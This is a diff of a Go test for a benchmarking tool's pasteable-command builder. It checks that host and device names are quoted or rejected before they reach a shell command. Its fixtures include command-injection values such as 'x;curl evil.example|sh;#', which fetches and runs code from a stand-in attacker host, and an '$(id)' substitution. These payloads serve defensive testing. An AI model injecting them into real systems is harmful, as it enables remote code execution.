@@ -143,7 +143,7 @@ func TestHelloIsBounded(t *testing.T) {
 // TestCommandsToPaste: names that agents tell of their hosts and devices do not come into a command as they are.
 func TestCommandsToPaste(t *testing.T) {
 	for name, tt := range map[string]struct{ host, device, want string }{
-		"good":      {"node3", "roce0@eth1", "then at node3 gobw write node0 -s 65536 -D 5 -d roce0@eth1"},
+		"good":      {"node3", "roce0@eth1", "Type at node0:\n  gobw serve\nthen at node3:\n  gobw write node0 -s 65536 -D 5 -d roce0@eth1"},
 		"a device":  {"node3", "x;curl evil.example|sh;#", "-d 'x;curl evil.example|sh;#'"},
 		"quotes":    {"node3", "x'$(id)'", `-d 'x'\''$(id)'\'''`},
 		"a host":    {"x;curl evil.example|sh", "roce0", ""},
